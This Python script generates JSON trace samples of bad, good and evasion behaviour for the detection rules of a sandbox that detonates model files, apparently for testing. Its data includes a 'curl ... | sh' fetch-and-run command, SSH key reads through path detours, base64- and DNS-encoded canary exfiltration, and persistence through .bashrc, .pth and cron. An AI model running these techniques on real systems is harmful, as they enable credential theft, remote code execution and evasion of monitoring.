"""Write the samples of the rules on detonations: `python tests/harness/make_trace_samples.py`.

Addresses are those set aside for documentation, names end in `.example`.
"""

import base64
import json
import sys
from pathlib import Path

ROOT = Path(__file__).parent.parent
sys.path[:0] = [str(ROOT)]

from harness.traces import (  # noqa: E402 - the path is set above
    AS_ROOT,
    CANARY,
    LATER,
    THIEF,
    detonation,
    event,
    everywhere,
    heard,
    honest,
    run,
)
from pratique.core.trace import Detonation, Ending, Event, Outcome  # noqa: E402 - as above
from pratique.core.trace_json import value  # noqa: E402 - as above

HONEST = honest()
CALLS = event("connect", family="inet", address="192.0.2.7", port="443")


def writes(path: str) -> Event:
    """Return the event of a file that is made."""
    return event("open", path=path, mode="create", outcome=Outcome.LET)


SAMPLES: dict[str, dict[str, Detonation]] = {
    "run-connects-out": {
        "bad-connect": everywhere(
            event("dns", name="c2.example", type_="A", address="192.0.2.7", at_ms=1_100),
            heard("socket.connect", "<socket>, [192.0.2.7, 443]", THIEF),
            CALLS,
        ),
        "good-honest": HONEST,
        "good-unix-socket": everywhere(event("connect", family="unix", path="/run/nscd/socket")),
        "good-only-resolves": everywhere(
            event("sendto", family="inet", address="192.0.2.53", port="53", preview="q"),
            event("dns", name="c2.example", type_="A", address="198.51.100.1"),
            event("connect", family="inet", address="198.51.100.1", port="0"),
        ),
        "evasion-datagram": everywhere(
            event("sendto", family="inet6", address="2001:db8::5", port="53", preview="hello")
        ),
        "evasion-mapped-address": everywhere(
            event("connect", family="inet6", address="::ffff:198.51.100.3", port="8443")
        ),
        "evasion-hearsay-alone": everywhere(
            heard("socket.connect", "<socket>, [203.0.113.9, 80]", THIEF)
        ),
        "evasion-only-the-decoy-saw-it": everywhere(
            event("received", address="203.0.113.9", port="80", preview="GET /x", size="6")
        ),
        "evasion-after-loopback": everywhere(
            *(
                event("connect", family="inet", address="127.0.0.1", port=str(port))
                for port in range(9_000, 9_040)
            ),
            CALLS,
        ),
    },
    "run-resolves-name": {
        "bad-name": everywhere(event("dns", name="beacon.example", type_="A")),
        "good-honest": HONEST,
        "evasion-text-record": everywhere(event("dns", name="q1.beacon.example", type_="TXT")),
        "evasion-hearsay-alone": everywhere(
            heard("socket.getaddrinfo", "beacon.example, 443", THIEF)
        ),
    },
    "run-listens": {
        "bad-port": everywhere(
            event("bind", family="inet", address="::", port="4444", outcome=Outcome.LET),
            event("listen", outcome=Outcome.LET),
        ),
        "good-honest": HONEST,
        "evasion-accept-alone": everywhere(event("accept", outcome=Outcome.LET)),
    },
    "run-asks-cloud-metadata": {
        "bad-aws": everywhere(
            event("connect", family="inet", address="169.254.169.254", port="80")
        ),
        "good-honest": HONEST,
        "good-other-address": everywhere(CALLS),
        "evasion-mapped-address": everywhere(
            event("connect", family="inet6", address="::ffff:169.254.169.254", port="80")
        ),
        "evasion-by-name": everywhere(event("dns", name="metadata.google.internal.", type_="A")),
        "evasion-other-cloud": everywhere(
            event("sendto", family="inet", address="100.100.100.200", port="80")
        ),
    },
    "run-executes-program": {
        "bad-shell": everywhere(
            heard("os.system", "curl http://192.0.2.7/x | sh", THIEF),
            event("execve", path="/bin/sh", argv="sh -c 'curl http://192.0.2.7/x | sh'"),
        ),
        "good-honest": HONEST,
        "evasion-from-memory": everywhere(
            event("execve", path="/proc/self/fd/5", argv="kworker/0:1")
        ),
        "evasion-late": everywhere(event("execve", phase="exit", path="/usr/bin/id", argv="id")),
    },
    "run-spawns-processes": {
        "bad-bomb": everywhere(*(event("fork", flags="", at_ms=n) for n in range(20))),
        "good-honest": HONEST,
        "evasion-one": everywhere(event("fork", flags="vm vfork", outcome=Outcome.LET)),
    },
    "run-reads-secrets": {
        "bad-decoy": everywhere(
            event("open", path="/home/.ssh/id_ed25519", mode="read", outcome=Outcome.LET)
        ),
        "good-honest": HONEST,
        "good-same-name-in-model": everywhere(
            event("open", path="/model/.ssh/id_ed25519", mode="read", outcome=Outcome.LET)
        ),
        "evasion-detour": everywhere(
            event("open", path="/model/../home/x/..//.ssh/id_ed25519", mode="read")
        ),
        "evasion-through-process-root": everywhere(
            event("open", path="/proc/self/root/home/.ssh/id_ed25519", mode="read")
        ),
        "evasion-by-program": everywhere(
            event("execve", path="/bin/cat", argv="cat /home/.ssh/id_ed25519")
        ),
        "evasion-by-link": everywhere(
            event("symlink", path="/tmp/x", to="/home/.ssh/id_ed25519", outcome=Outcome.LET)
        ),
        "evasion-other-processes": everywhere(event("open", path="/proc/1/environ", mode="read")),
    },
    "run-leaks-canary": {
        "bad-sent": everywhere(
            event(
                "received",
                address="192.0.2.7",
                port="80",
                preview=f"POST /k HTTP/1.1\\r\\n\\r\\n{CANARY}",
                size="90",
            )
        ),
        "good-honest": HONEST,
        "good-other-text": everywhere(
            event("received", address="192.0.2.7", port="80", preview="GET /", size="5")
        ),
        "evasion-base64": everywhere(
            event(
                "sendto",
                address="192.0.2.7",
                port="53",
                preview="x=" + base64.b64encode(f"k={CANARY}".encode()).decode(),
            )
        ),
        "evasion-hex-in-labels": everywhere(
            event("dns", name=f"{CANARY.encode().hex()[:20]}.{CANARY.encode().hex()[20:]}.example")
        ),
        "evasion-backwards": everywhere(event("execve", path="/x", argv=f"x {CANARY[::-1]}")),
        "evasion-a-piece": everywhere(event("mkdir", path=f"/tmp/{CANARY[5:18]}")),
    },
    "run-writes-outside": {
        "bad-model": everywhere(writes("/model/config.json")),
        "good-honest": HONEST,
        "good-temporary": everywhere(writes("/tmp/x/y")),
        "evasion-detour": everywhere(writes("/tmp/../srv/x")),
        "evasion-moved": everywhere(event("rename", path="/tmp/x", to="/srv/x")),
        "evasion-through-process-root": everywhere(writes("/proc/self/root/srv/x")),
    },
    "run-persists": {
        "bad-bashrc": everywhere(writes("/home/.bashrc")),
        "good-honest": HONEST,
        "good-read": everywhere(
            event("open", path="/home/.bashrc", mode="read", outcome=Outcome.LET)
        ),
        "evasion-pth": everywhere(writes("/usr/lib/python3/dist-packages/a.pth")),
        "evasion-link": everywhere(
            event("symlink", path="/home/.config/autostart/x.desktop", to="/tmp/x")
        ),
        "evasion-cron": everywhere(event("rename", path="/tmp/x", to="/etc//cron.d/x")),
    },
    "run-asks-odd-kernel": {
        "bad-ptrace": everywhere(event("kernel", name="ptrace", request="16")),
        "good-honest": HONEST,
        "evasion-raw-socket": everywhere(event("socket", family="inet", type_="raw")),
        "evasion-vsock": everywhere(event("socket", family="vsock", type_="stream")),
        "evasion-memory-file": everywhere(event("kernel", name="memfd_create", path="x")),
    },
    "run-loads-native-code": {
        "bad-written": everywhere(
            writes("/tmp/lib.so"),
            event("dlopen", path="/tmp/lib.so", outcome=Outcome.LET),
        ),
        "good-honest": HONEST,
        "evasion-in-model": everywhere(
            event("dlopen", path="/model/ops/libops.so", outcome=Outcome.LET)
        ),
        "evasion-moved-into-place": everywhere(
            event("rename", path="/tmp/x", to="/usr/lib/libz.so.1"),
            event("dlopen", path="/usr/lib/libz.so.1", outcome=Outcome.LET),
        ),
    },
    "run-differs-by-condition": {
        "bad-date": detonation(run(), run(CALLS, condition=LATER), run(condition=AS_ROOT)),
        "good-honest": HONEST,
        "good-always": everywhere(CALLS),
        "good-late-thread": detonation(
            run(event("dns", name="a.example", phase="idle")), run(condition=LATER)
        ),
        "evasion-not-for-root": detonation(
            run(CALLS), run(CALLS, condition=LATER), run(condition=AS_ROOT)
        ),
        "evasion-asleep-until-a-day": detonation(
            run(), run(event("dns", name="a.example", phase="idle"), condition=LATER)
        ),
    },
    "run-acts-late": {
        "bad-thread": everywhere(
            event("connect", phase="idle", family="inet", address="192.0.2.7", port="443")
        ),
        "good-honest": HONEST,
        "good-temporary": everywhere(
            event("remove", phase="exit", path="/tmp/tmpab12cd34/cache", outcome=Outcome.LET)
        ),
        "evasion-exit-handler": everywhere(
            event("execve", phase="exit", path="/bin/sh", argv="sh -c id")
        ),
        "evasion-long-sleep": everywhere(event("sleep", seconds="86400", outcome=Outcome.FAKED)),
        "evasion-timer": everywhere(event("timer", seconds="3600", kind="real")),
        "evasion-signal-handler": everywhere(event("signal", signal="SIGTERM", kind="caught")),
    },
    "run-exhausts-resources": {
        "bad-memory": detonation(run(ending=Ending.MEMORY, says="more than 8 GiB")),
        "good-honest": HONEST,
        "good-refused-file": detonation(run(ending=Ending.FAILED, says="not a checkpoint")),
        "evasion-full-disk": detonation(
            run(ending=Ending.FAILED, says="OSError: [Errno 28] No space left on device")
        ),
        "evasion-flood": detonation(run(cut=True)),
        "evasion-crash": detonation(run(ending=Ending.CRASHED, says="was killed by SIGSEGV")),
        "evasion-deadline": detonation(run(ending=Ending.DEADLINE)),
    },
    "run-attacks-sandbox": {
        "bad-forged-frames": detonation(
            run(ending=Ending.PROTOCOL, says="a frame that the detonator did not write")
        ),
        "good-honest": HONEST,
        "evasion-kills-all": everywhere(event("kill", target="-1", signal="SIGKILL")),
        "evasion-kills-the-first": everywhere(event("kill", target="1", signal="SIGTERM")),
    },
    "run-looks-for-sandbox": {
        "bad-dmi": everywhere(
            event("open", path="/sys/class/dmi/id/product_name", mode="read", outcome=Outcome.LET)
        ),
        "good-honest": HONEST,
        "evasion-tracer": everywhere(
            event("open", path="/proc/self/status", mode="read", outcome=Outcome.LET)
        ),
        "evasion-container-mark": everywhere(event("open", path="/.dockerenv", mode="read")),
    },
}


def main() -> int:
    """Write every sample as JSON."""
    for slug, rows in SAMPLES.items():
        folder = ROOT / "samples" / slug
        folder.mkdir(parents=True, exist_ok=True)
        for name, told in rows.items():
            body = json.dumps(value(told))
            for start in ('{"loader"', '"events"', '"decoys"', '"unloaded"'):
                body = body.replace(start, f"\n{start}")
            (folder / f"{name}.trace.json").write_text(body + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
